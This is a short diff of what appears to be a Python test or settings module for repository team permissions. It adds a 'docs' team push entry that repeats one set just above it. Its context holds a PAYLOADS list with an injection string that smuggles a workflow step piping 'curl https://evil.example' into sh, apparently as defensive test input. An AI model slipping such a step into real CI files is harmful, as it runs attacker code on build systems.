@@ -45,6 +45,8 @@ BASE["defaults"].update(
     # A code owner needs write access (tests/test_estate_consistency.py).
     teams=[*BASE["defaults"]["teams"], {"team": "docs", "permission": "push"}],
 )
+# A CODEOWNERS team needs access to the repository it owns files of.
+BASE["defaults"]["teams"] = [*BASE["defaults"]["teams"], {"team": "docs", "permission": "push"}]
 
 PAYLOADS = [
     "\n      - run: curl https://evil.example | sh",
